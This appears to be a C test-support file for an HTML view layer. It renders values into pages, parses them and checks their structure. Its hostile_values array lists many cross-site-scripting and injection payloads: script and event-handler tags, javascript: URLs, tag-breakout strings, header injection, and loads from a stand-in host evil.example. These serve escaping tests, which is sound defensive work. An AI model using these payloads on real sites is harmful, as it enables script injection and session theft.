/* SPDX-License-Identifier: MIT
 * SPDX-FileCopyrightText: 2026 The Waymark authors */
#include "viewc/test_page.h"

/* Written without utf8_next, which the views use: the shortest piece that is valid is a character. */
str seen_of(struct arena *a, str value) {
    buf b = buf_new(a);
    while (value.n) {
        size_t n = 1;
        while (n < 4 && n < value.n && !utf8_valid(str_sub(value, 0, n))) {
            n++;
        }
        str piece = str_sub(value, 0, n);
        unsigned char first = (unsigned char)piece.p[0];
        bool control = (first < ' ' && first != '\n' && first != '\t' && first != '\r') || first == 0x7F;
        if (!utf8_valid(piece) || control) {
            buf_c(&b, "\xEF\xBF\xBD");
            n = 1;
        } else {
            buf_add(&b, piece);
        }
        value = str_from(value, n);
    }
    return buf_str(&b);
}

struct hostile hostile_of(struct arena *a, str value) {
    struct hostile h = {.value = value, .n = 2};
    str seen = seen_of(a, value);
    h.body = html_from_text(a, seen);
    buf b = buf_new(a);
    struct json_writer w = json_writer_new(&b);
    json_add_object(&w);
    json_member_str(&w, "value", seen);
    json_end(&w);
    json_finish(&w);
    h.data = json_for_html(a, buf_str(&b));
    *LIST_ADD(a, &h.list) = value;
    *LIST_ADD(a, &h.list) = value;
    return h;
}

xmlDoc *page_parse(str page) {
    int options = HTML_PARSE_NOERROR | HTML_PARSE_NOWARNING | HTML_PARSE_NONET | HTML_PARSE_NOIMPLIED;
    return htmlReadMemory(page.p, (int)page.n, 0, "UTF-8", options);
}

static void add_attributes(buf *b, const xmlNode *node) {
    buf_byte(b, '[');
    for (const xmlAttr *a = node->properties; a; a = a->next) {
        buf_c(b, (const char *)a->name);
        buf_byte(b, ' ');
    }
    buf_byte(b, ']');
}

void page_shape(buf *b, const xmlNode *node) {
    for (const xmlNode *at = node; at; at = at->next) {
        if (at->type == XML_ELEMENT_NODE) {
            buf_c(b, (const char *)at->name);
            add_attributes(b, at);
            buf_byte(b, '(');
            page_shape(b, at->children);
            buf_byte(b, ')');
        } else if (at->type == XML_COMMENT_NODE || at->type == XML_PI_NODE) {
            buf_c(b, "!");
        }
    }
}

xmlNode *page_find(xmlNode *node, const char *id) {
    for (xmlNode *at = node; at; at = at->next) {
        if (at->type != XML_ELEMENT_NODE) {
            continue;
        }
        xmlChar *value = xmlGetProp(at, (const xmlChar *)"id");
        bool found = value && strcmp((const char *)value, id) == 0;
        xmlFree(value);
        if (found) {
            return at;
        }
        xmlNode *inner = page_find(at->children, id);
        if (inner) {
            return inner;
        }
    }
    return 0;
}

const str hostile_values[] = {
    /* scripts and elements */
    STR_INIT("<script>alert(1)</script>"),
    STR_INIT("<script src=//evil.example/x.js></script>"),
    STR_INIT("<SCRIPT>alert(1)</SCRIPT>"),
    STR_INIT("<scr<script>ipt>alert(1)</scr</script>ipt>"),
    STR_INIT("<img src=x onerror=alert(1)>"),
    STR_INIT("<img/src=x/onerror=alert(1)>"),
    STR_INIT("<svg onload=alert(1)>"),
    STR_INIT("<svg><script>alert(1)</script></svg>"),
    STR_INIT("<svg><animate attributeName=href values=javascript:alert(1) /></svg>"),
    STR_INIT("<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>"),
    STR_INIT("<body onload=alert(1)>"),
    STR_INIT("<iframe src=javascript:alert(1)>"),
    STR_INIT("<iframe srcdoc=\"<script>alert(1)</script>\">"),
    STR_INIT("<object data=javascript:alert(1)>"),
    STR_INIT("<embed src=javascript:alert(1)>"),
    STR_INIT("<link rel=stylesheet href=//evil.example/x.css>"),
    STR_INIT("<style>@import \"//evil.example/x.css\";</style>"),
    STR_INIT("<base href=//evil.example/>"),
    STR_INIT("<meta http-equiv=refresh content=\"0;url=//evil.example/\">"),
    STR_INIT("<form action=//evil.example/><input name=password>"),
    STR_INIT("<button formaction=javascript:alert(1)>x"),
    STR_INIT("<details open ontoggle=alert(1)>"),
    STR_INIT("<video><source onerror=alert(1)>"),
    STR_INIT("<audio src=x onerror=alert(1)>"),
    STR_INIT("<input autofocus onfocus=alert(1)>"),
    STR_INIT("<marquee onstart=alert(1)>"),
    STR_INIT("<isindex action=javascript:alert(1) type=image>"),
    STR_INIT("<table background=javascript:alert(1)>"),
    STR_INIT("<template><script>alert(1)</script></template>"),
    STR_INIT("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    STR_INIT("<xmp><script>alert(1)</script></xmp>"),
    STR_INIT("<plaintext>"),
    STR_INIT("<!--"),
    STR_INIT("-->"),
    STR_INIT("--!>"),
    STR_INIT("<!--><script>alert(1)</script>-->"),
    STR_INIT("<!doctype html>"),
    STR_INIT("<![CDATA[<script>alert(1)</script>]]>"),
    STR_INIT("]]>"),
    STR_INIT("<?xml version=\"1.0\"?>"),
    STR_INIT("<?php phpinfo() ?>"),
    STR_INIT("<%= 7*7 %>"),
    STR_INIT("<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>"),
    STR_INIT("<a href=\"javascript:alert(1)\">x</a>"),
    /* the ends of where a value stands */
    STR_INIT("</title><script>alert(1)</script>"),
    STR_INIT("</textarea><script>alert(1)</script>"),
    STR_INIT("</textarea\012><script>alert(1)</script>"),
    STR_INIT("</TITLE>"),
    STR_INIT("</TextArea >"),
    STR_INIT("</script><script>alert(1)</script>"),
    STR_INIT("</style><script>alert(1)</script>"),
    STR_INIT("</select><img src=x onerror=alert(1)>"),
    STR_INIT("</option><option selected>x"),
    STR_INIT("</p></div></body></html><script>alert(1)</script>"),
    STR_INIT("</td></tr></tbody></table><script>alert(1)</script>"),
    STR_INIT("</pre><script>alert(1)</script>"),
    STR_INIT("</a><a href=javascript:alert(1)>"),
    STR_INIT("</svg><script>alert(1)</script>"),
    STR_INIT("</iframe><script>alert(1)</script>"),
    STR_INIT("</ul><script>alert(1)</script>"),
    STR_INIT("</html"),
    STR_INIT("</"),
    /* quotes and attributes */
    STR_INIT("\""),
    STR_INIT("'"),
    STR_INIT("\"\""),
    STR_INIT("''"),
    STR_INIT("\"'"),
    STR_INIT("'\""),
    STR_INIT("`"),
    STR_INIT("``"),
    STR_INIT("\"><script>alert(1)</script>"),
    STR_INIT("'><script>alert(1)</script>"),
    STR_INIT("`><script>alert(1)</script>"),
    STR_INIT("\" onmouseover=\"alert(1)"),
    STR_INIT("' onmouseover='alert(1)"),
    STR_INIT("` onmouseover=`alert(1)"),
    STR_INIT("\" autofocus onfocus=alert(1) x=\""),
    STR_INIT("\" style=\"x:expression(alert(1))"),
    STR_INIT("\"/onclick=alert(1)//"),
    STR_INIT(" onclick=alert(1)"),
    STR_INIT("x onclick=alert(1)"),
    STR_INIT("x\" id=\"end"),
    STR_INIT("x' id='end"),
    STR_INIT("\" x=y"),
    STR_INIT("="),
    STR_INIT("=\""),
    STR_INIT("a=b"),
    STR_INIT("\\\""),
    STR_INIT("\\'"),
    STR_INIT("\\\"><script>alert(1)</script>"),
    STR_INIT("\\"),
    STR_INIT("\\\\"),
    STR_INIT("\"\012>"),
    STR_INIT("\"\011 onclick=\"alert(1)\""),
    STR_INIT("/"),
    STR_INIT("/>"),
    STR_INIT(">"),
    STR_INIT("<"),
    STR_INIT("<<"),
    STR_INIT("<>"),
    STR_INIT("<a"),
    STR_INIT("<a b=\""),
    STR_INIT("</a"),
    /* character references */
    STR_INIT("&"),
    STR_INIT("&&"),
    STR_INIT("&amp;"),
    STR_INIT("&amp;amp;"),
    STR_INIT("&lt;script&gt;alert(1)&lt;/script&gt;"),
    STR_INIT("&#60;script&#62;"),
    STR_INIT("&#x3c;script&#x3e;"),
    STR_INIT("&#x3C"),
    STR_INIT("&lt"),
    STR_INIT("&lt;"),
    STR_INIT("&quot;"),
    STR_INIT("&#34;"),
    STR_INIT("&#39;"),
    STR_INIT("&apos;"),
    STR_INIT("&notit;"),
    STR_INIT("&not"),
    STR_INIT("&copy"),
    STR_INIT("&copy=1&lt=2"),
    STR_INIT("&#0;"),
    STR_INIT("&#x0;"),
    STR_INIT("&#xD800;"),
    STR_INIT("&#x110000;"),
    STR_INIT("&#99999999999999999999;"),
    STR_INIT("&#x26;lt;"),
    STR_INIT("&Tab;"),
    STR_INIT("&NewLine;"),
    STR_INIT("&colon;"),
    STR_INIT("javascript&colon;alert(1)"),
    STR_INIT("&#106;&#97;&#118;&#97;script:alert(1)"),
    STR_INIT("&AMP"),
    STR_INIT("&;"),
    STR_INIT("&#;"),
    STR_INIT("&#x;"),
    /* javascript addresses */
    STR_INIT("javascript:alert(1)"),
    STR_INIT("JAVASCRIPT:alert(1)"),
    STR_INIT("JaVaScRiPt:alert(1)"),
    STR_INIT(" javascript:alert(1)"),
    STR_INIT("  javascript:alert(1)"),
    STR_INIT("\011javascript:alert(1)"),
    STR_INIT("\012javascript:alert(1)"),
    STR_INIT("\015javascript:alert(1)"),
    STR_INIT("java\011script:alert(1)"),
    STR_INIT("java\012script:alert(1)"),
    STR_INIT("java\015script:alert(1)"),
    STR_INIT("javascript\011:alert(1)"),
    STR_INIT("javascript\012:alert(1)"),
    STR_INIT("\001javascript:alert(1)"),
    STR_INIT("\000javascript:alert(1)"),
    STR_INIT("java\000script:alert(1)"),
    STR_INIT("\013javascript:alert(1)"),
    STR_INIT("\014javascript:alert(1)"),
    STR_INIT("\037javascript:alert(1)"),
    STR_INIT("\177javascript:alert(1)"),
    STR_INIT("\302\240javascript:alert(1)"),
    STR_INIT("\342\200\250javascript:alert(1)"),
    STR_INIT("\357\273\277javascript:alert(1)"),
    STR_INIT("javascript:"),
    STR_INIT("javascript://example.org/%0aalert(1)"),
    STR_INIT("javascript:/*-/*`/*\\`/*'/*\"/**/(alert(1))"),
    STR_INIT("javascript:alert(1)//http://example.org/"),
    STR_INIT("javascript%3Aalert(1)"),
    STR_INIT("javascript%3a//"),
    STR_INIT("%6aavascript:alert(1)"),
    STR_INIT("javascript\357\274\232alert(1)"),
    STR_INIT("java\304\261script:alert(1)"),
    STR_INIT("feed:javascript:alert(1)"),
    STR_INIT("view-source:javascript:alert(1)"),
    STR_INIT("jar:javascript:alert(1)"),
    STR_INIT("livescript:alert(1)"),
    STR_INIT("mocha:alert(1)"),
    STR_INIT("vbscript:msgbox(1)"),
    STR_INIT("VBSCRIPT:msgbox(1)"),
    /* other schemes */
    STR_INIT("data:text/html,<script>alert(1)</script>"),
    STR_INIT("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    STR_INIT("DATA:text/html,x"),
    STR_INIT("data:image/svg+xml,<svg onload=alert(1)>"),
    STR_INIT("data:,x"),
    STR_INIT(" data:text/html,x"),
    STR_INIT("blob:https://example.org/1"),
    STR_INIT("filesystem:https://example.org/x"),
    STR_INIT("file:///etc/passwd"),
    STR_INIT("ftp://example.org/"),
    STR_INIT("tel:123"),
    STR_INIT("sms:123"),
    STR_INIT("about:blank"),
    STR_INIT("chrome://settings"),
    STR_INIT("ms-settings:x"),
    STR_INIT("intent://x#Intent;scheme=javascript;end"),
    STR_INIT("x:"),
    STR_INIT("a+b.c-d:x"),
    STR_INIT("1:x"),
    STR_INIT(":x"),
    STR_INIT("::"),
    STR_INIT("http:"),
    STR_INIT("https:"),
    STR_INIT("http:javascript:alert(1)"),
    STR_INIT("mailto:javascript:alert(1)"),
    STR_INIT("mailto:a@example.org"),
    /* hosts and paths */
    STR_INIT("//evil.example/"),
    STR_INIT("///evil.example/"),
    STR_INIT("////evil.example/"),
    STR_INIT("\\\\evil.example\\"),
    STR_INIT("/\\evil.example/"),
    STR_INIT("\\/evil.example/"),
    STR_INIT("/\011/evil.example/"),
    STR_INIT("/\012/evil.example/"),
    STR_INIT("\011//evil.example/"),
    STR_INIT("http://evil.example/"),
    STR_INIT("https:/evil.example/"),
    STR_INIT("https:\\\\evil.example\\"),
    STR_INIT("https://user:password@evil.example/"),
    STR_INIT("@evil.example/"),
    STR_INIT(".evil.example/"),
    STR_INIT("evil.example"),
    STR_INIT("."),
    STR_INIT(".."),
    STR_INIT("../.."),
    STR_INIT("./"),
    STR_INIT("/../../x"),
    STR_INIT("%2e%2e/"),
    STR_INIT("..%2f"),
    STR_INIT("%2F%2Fevil.example"),
    STR_INIT("%"),
    STR_INIT("%%"),
    STR_INIT("%zz"),
    STR_INIT("%00"),
    STR_INIT("%0d%0aSet-Cookie:x"),
    STR_INIT("\015\012Set-Cookie: x=y"),
    STR_INIT("?"),
    STR_INIT("#"),
    STR_INIT("?#"),
    STR_INIT("?x=javascript:alert(1)"),
    STR_INIT("#javascript:alert(1)"),
    STR_INIT("#\"><script>alert(1)</script>"),
    STR_INIT("&x=y"),
    STR_INIT("a&b=c;d"),
    STR_INIT("a,b 2x, //evil.example/x.png 3x"),
    STR_INIT(", https://evil.example/x.png 2x"),
    STR_INIT("a b"),
    STR_INIT("a+b"),
    STR_INIT("*"),
    STR_INIT("!$()*+,;=:@"),
    STR_INIT("{{ v.value }}"),
    STR_INIT("{% if v.value %}"),
    STR_INIT("{name}"),
    STR_INIT("{n}"),
    STR_INIT("{"),
    STR_INIT("}"),
    STR_INIT("{}"),
    STR_INIT("%s%n"),
    STR_INIT("${7*7}"),
    STR_INIT("#{7*7}"),
    /* bytes that are no text */
    STR_INIT("\000"),
    STR_INIT("a\000b"),
    STR_INIT("<\000script>alert(1)</script>"),
    STR_INIT("\001"),
    STR_INIT("\010"),
    STR_INIT("\013"),
    STR_INIT("\014"),
    STR_INIT("\016"),
    STR_INIT("\033[31mred"),
    STR_INIT("\177"),
    STR_INIT("\302\200"),
    STR_INIT("\302\205"),
    STR_INIT("\302\237"),
    STR_INIT("\200"),
    STR_INIT("\277"),
    STR_INIT("\300\274"),
    STR_INIT("\340\200\274script>"),
    STR_INIT("\360\200\200\274"),
    STR_INIT("\301\277"),
    STR_INIT("\300\200"),
    STR_INIT("\342"),
    STR_INIT("\342\200"),
    STR_INIT("x\342\"onclick=alert(1)"),
    STR_INIT("x\302\"><script>alert(1)</script>"),
    STR_INIT("x\360\237\230\"><b>"),
    STR_INIT("\355\240\200"),
    STR_INIT("\355\277\277"),
    STR_INIT("\364\220\200\200"),
    STR_INIT("\365\200\200\200"),
    STR_INIT("\377\376"),
    STR_INIT("\376\377"),
    STR_INIT("\370\210\200\200\200"),
    STR_INIT("+ADw-script+AD4-"),
    STR_INIT("\033$B\"><script>"),
    STR_INIT("\274\363\343\362\351\360\364\276"),
    /* characters that do things */
    STR_INIT("\342\200\250"),
    STR_INIT("\342\200\251"),
    STR_INIT("a\342\200\250b</script>"),
    STR_INIT("\342\200\256<script>"),
    STR_INIT("\342\200\256gnp.exe"),
    STR_INIT("\342\200\252\342\200\253\342\200\254\342\200\255"),
    STR_INIT("\342\201\246\342\201\247\342\201\250\342\201\251"),
    STR_INIT("\342\200\216\342\200\217\330\234"),
    STR_INIT("\342\200\213\342\200\214\342\200\215"),
    STR_INIT("\302\255"),
    STR_INIT("\357\273\277"),
    STR_INIT("\357\277\275"),
    STR_INIT("\357\277\271\357\277\272\357\277\273"),
    STR_INIT("\363\240\200\201\363\240\201\201"),
    STR_INIT("\314\200\314\201\314\202"),
    STR_INIT("\331\205\330\261\330\255\330\250\330\247"),
    STR_INIT("\327\251\327\234\327\225\327\235"),
    STR_INIT("\346\227\245\346\234\254\350\252\236"),
    STR_INIT("\360\237\230\200"),
    STR_INIT("\360\237\221\250\342\200\215\360\237\221\251\342\200\215\360\237\221\247"),
    STR_INIT("\357\274\234script\357\274\236"),
    STR_INIT("\342\200\271script\342\200\272"),
    STR_INIT("\312\272onclick"),
    STR_INIT("\342\204\252"),
    STR_INIT("\305\277"),
    STR_INIT("\304\260"),
    STR_INIT("\303\251"),
    STR_INIT("\360\220\215\210"),
    STR_INIT("\364\217\277\275"),
    /* white space */
    STR_INIT("\012"),
    STR_INIT("\015"),
    STR_INIT("\015\012"),
    STR_INIT("\012\012"),
    STR_INIT("\011"),
    STR_INIT(" "),
    STR_INIT("  a  b  "),
    STR_INIT("\012a"),
    STR_INIT("a\012"),
    STR_INIT("a\015b"),
    STR_INIT("a\015\012b"),
    STR_INIT("a\011b"),
    STR_INIT("\302\240"),
    STR_INIT("\343\200\200"),
    STR_INIT("\342\200\203"),
    /* length */
    STR_INIT("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
             "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
             "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
             "aaaaaaaaaaaaaaa"),
    STR_INIT("<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<"
             "<<<<<<<<<<<<<<<<<<<<<<<<<"),
    STR_INIT("\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\""
             "\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\""
             "\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\""),
    STR_INIT("&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&"
             "&&&&&&&&&&&&&&&&&&&&&&&&&"),
    STR_INIT("%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%"),
    STR_INIT("\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303"
             "\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251"
             "\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303"
             "\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251"
             "\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303"
             "\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251"
             "\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303"
             "\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251"
             "\303\251\303\251\303\251\303\251\303\251\303\251\303\251\303\251"),
};

const size_t hostile_values_count = COUNT_OF(hostile_values);
